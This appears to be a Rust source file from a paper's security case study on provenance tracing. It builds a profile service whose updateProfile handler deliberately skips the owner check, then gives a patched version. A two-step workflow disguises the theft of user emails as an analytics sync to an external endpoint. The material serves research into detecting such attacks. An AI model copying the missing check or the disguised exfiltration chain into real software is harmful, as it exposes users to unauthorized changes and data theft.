//! A user-profile service with security bugs (paper §4.2).
//!
//! Two scenarios from the paper's security case study are reproduced:
//!
//! * **User-Profiles access-control violations** — the buggy
//!   `updateProfile` handler never checks that the authenticated caller is
//!   the profile owner, so any request can modify any profile. TROD's
//!   provenance query (the paper's second SQL example) finds every
//!   violating request after the fact.
//! * **Data exfiltration through workflows** — a compromised handler
//!   copies sensitive profile data into a staging table; a second,
//!   seemingly legitimate workflow later reads the staging table and sends
//!   its contents to an external service. Following the data through
//!   TROD's workflow traces reveals the exfiltration chain.

use trod_db::{row, DataType, Database, Key, Predicate, Schema, Value};
use trod_provenance::ProvenanceStore;
use trod_runtime::{Args, HandlerError, HandlerRegistry};

/// User profiles (the sensitive table).
pub const PROFILES_TABLE: &str = "profiles";
/// Staging table abused by the exfiltration workflow.
pub const STAGING_TABLE: &str = "staging";
/// The provenance event-table name used for `profiles`, matching the
/// paper's `ProfileEvents` example.
pub const PROFILE_EVENTS_TABLE: &str = "ProfileEvents";

/// Creates the profile-service schema in a fresh database.
pub fn profiles_db() -> Database {
    let db = Database::new();
    create_schema(&db);
    db
}

/// Creates the profile-service tables on an existing database.
pub fn create_schema(db: &Database) {
    db.create_table(
        PROFILES_TABLE,
        Schema::builder()
            .column("user_name", DataType::Text)
            .column("email", DataType::Text)
            .column("bio", DataType::Text)
            .column("updated_by", DataType::Text)
            .primary_key(&["user_name"])
            .build()
            .expect("static schema"),
    )
    .expect("fresh database");
    db.create_table(
        STAGING_TABLE,
        Schema::builder()
            .column("entry_id", DataType::Text)
            .column("payload", DataType::Text)
            .primary_key(&["entry_id"])
            .build()
            .expect("static schema"),
    )
    .expect("fresh database");
}

/// Creates a provenance store using the paper's `ProfileEvents` name.
pub fn provenance_for(db: &Database) -> ProvenanceStore {
    let store = ProvenanceStore::new(db);
    store
        .register_table_as(
            PROFILES_TABLE,
            PROFILE_EVENTS_TABLE,
            &db.schema_of(PROFILES_TABLE).expect("schema exists"),
        )
        .expect("fresh provenance store");
    store
        .register_table(
            STAGING_TABLE,
            &db.schema_of(STAGING_TABLE).expect("schema exists"),
        )
        .expect("fresh provenance store");
    store
}

fn require_str(args: &Args, name: &str) -> Result<String, HandlerError> {
    args.get_str(name)
        .map(|s| s.to_string())
        .ok_or_else(|| HandlerError::BadArgument(format!("missing `{name}`")))
}

/// The profile-service handler registry (with the access-control bug and
/// the exfiltration workflow present).
pub fn registry() -> HandlerRegistry {
    let mut registry = HandlerRegistry::new();

    registry.register_fn("createProfile", |ctx, args| {
        let user = require_str(args, "user_name")?;
        let email = require_str(args, "email")?;
        let mut txn = ctx.txn("func:createProfile");
        txn.insert(PROFILES_TABLE, row![user.clone(), email, "", user.clone()])?;
        txn.commit()?;
        Ok(Value::Bool(true))
    });

    // BUGGY: does not check that `caller` is the profile owner.
    registry.register_fn("updateProfile", |ctx, args| {
        let user = require_str(args, "user_name")?;
        let caller = require_str(args, "caller")?;
        let bio = require_str(args, "bio")?;
        let mut txn = ctx.txn("func:updateProfile");
        let key = Key::single(user.clone());
        let profile = txn
            .get(PROFILES_TABLE, &key)?
            .ok_or_else(|| HandlerError::App(format!("no such profile {user}")))?;
        let email = profile[1].as_text().unwrap_or("").to_string();
        txn.update(PROFILES_TABLE, &key, row![user, email, bio, caller])?;
        txn.commit()?;
        Ok(Value::Bool(true))
    });

    registry.register_fn("viewProfile", |ctx, args| {
        let user = require_str(args, "user_name")?;
        let mut txn = ctx.txn("func:viewProfile");
        let profile = txn.get(PROFILES_TABLE, &Key::single(user.clone()))?;
        txn.commit()?;
        match profile {
            Some(p) => Ok(Value::Text(format!(
                "{}|{}",
                p[1].as_text().unwrap_or(""),
                p[2].as_text().unwrap_or("")
            ))),
            None => Err(HandlerError::App(format!("no such profile {user}"))),
        }
    });

    // Step 1 of the exfiltration chain: a compromised handler harvests
    // sensitive data into the staging table.
    registry.register_fn("harvestProfiles", |ctx, args| {
        let batch = require_str(args, "batch")?;
        let mut txn = ctx.txn("func:harvestProfiles");
        let profiles = txn.scan(PROFILES_TABLE, &Predicate::True)?;
        let payload: Vec<String> = profiles
            .iter()
            .map(|(_, p)| {
                format!(
                    "{}:{}",
                    p[0].as_text().unwrap_or(""),
                    p[1].as_text().unwrap_or("")
                )
            })
            .collect();
        txn.insert(STAGING_TABLE, row![batch, payload.join(";")])?;
        txn.commit()?;
        Ok(Value::Int(profiles.len() as i64))
    });

    // Step 2: a seemingly legitimate sync workflow reads the staging table
    // and ships its contents to an external endpoint.
    registry.register_fn("syncStaging", |ctx, args| {
        let batch = require_str(args, "batch")?;
        let mut txn = ctx.txn("func:syncStaging");
        let entry = txn.get(STAGING_TABLE, &Key::single(batch.clone()))?;
        txn.commit()?;
        match entry {
            Some(row) => {
                let payload = row[1].as_text().unwrap_or("").to_string();
                ctx.external_call("analytics-endpoint", &payload);
                Ok(Value::Bool(true))
            }
            None => Err(HandlerError::App(format!("no staged batch {batch}"))),
        }
    });

    registry
}

/// The fixed registry: `updateProfile` enforces the User-Profiles pattern.
pub fn patched_registry() -> HandlerRegistry {
    registry().with_replacement_fn("updateProfile", |ctx, args| {
        let user = require_str(args, "user_name")?;
        let caller = require_str(args, "caller")?;
        if user != caller {
            return Err(HandlerError::App(format!(
                "access denied: {caller} may not update the profile of {user}"
            )));
        }
        let bio = require_str(args, "bio")?;
        let mut txn = ctx.txn("func:updateProfileChecked");
        let key = Key::single(user.clone());
        let profile = txn
            .get(PROFILES_TABLE, &key)?
            .ok_or_else(|| HandlerError::App(format!("no such profile {user}")))?;
        let email = profile[1].as_text().unwrap_or("").to_string();
        txn.update(PROFILES_TABLE, &key, row![user, email, bio, caller])?;
        txn.commit()?;
        Ok(Value::Bool(true))
    })
}

/// Arguments for an `updateProfile` request.
pub fn update_args(user: &str, caller: &str, bio: &str) -> Args {
    Args::new()
        .with("user_name", user)
        .with("caller", caller)
        .with("bio", bio)
}

#[cfg(test)]
mod tests {
    use super::*;
    use trod_runtime::Runtime;
    use trod_trace::TraceEvent;

    fn seeded_runtime(registry: HandlerRegistry) -> Runtime {
        let runtime = Runtime::new(profiles_db(), registry);
        for (user, email) in [("alice", "a@x.org"), ("bob", "b@x.org")] {
            runtime.must_handle(
                "createProfile",
                Args::new().with("user_name", user).with("email", email),
            );
        }
        runtime
    }

    #[test]
    fn buggy_handler_allows_cross_user_updates() {
        let runtime = seeded_runtime(registry());
        // Mallory updates alice's profile — the bug.
        let result =
            runtime.handle_request("updateProfile", update_args("alice", "mallory", "pwned"));
        assert!(result.is_ok());
        let profile = runtime.must_handle("viewProfile", Args::new().with("user_name", "alice"));
        assert_eq!(profile, Value::Text("a@x.org|pwned".into()));
    }

    #[test]
    fn patched_handler_denies_cross_user_updates_but_allows_self_updates() {
        let runtime = seeded_runtime(patched_registry());
        let denied =
            runtime.handle_request("updateProfile", update_args("alice", "mallory", "pwned"));
        assert!(matches!(denied.output, Err(HandlerError::App(_))));
        let allowed = runtime.handle_request("updateProfile", update_args("alice", "alice", "hi"));
        assert!(allowed.is_ok());
    }

    #[test]
    fn exfiltration_chain_moves_data_to_an_external_endpoint() {
        let runtime = seeded_runtime(registry());
        let harvested = runtime.must_handle("harvestProfiles", Args::new().with("batch", "B1"));
        assert_eq!(harvested, Value::Int(2));
        runtime.must_handle("syncStaging", Args::new().with("batch", "B1"));
        let payloads: Vec<String> = runtime
            .tracer()
            .drain()
            .into_iter()
            .filter_map(|e| match e {
                TraceEvent::ExternalCall {
                    service, payload, ..
                } if service == "analytics-endpoint" => Some(payload),
                _ => None,
            })
            .collect();
        assert_eq!(payloads.len(), 1);
        assert!(payloads[0].contains("alice:a@x.org"));
    }
}
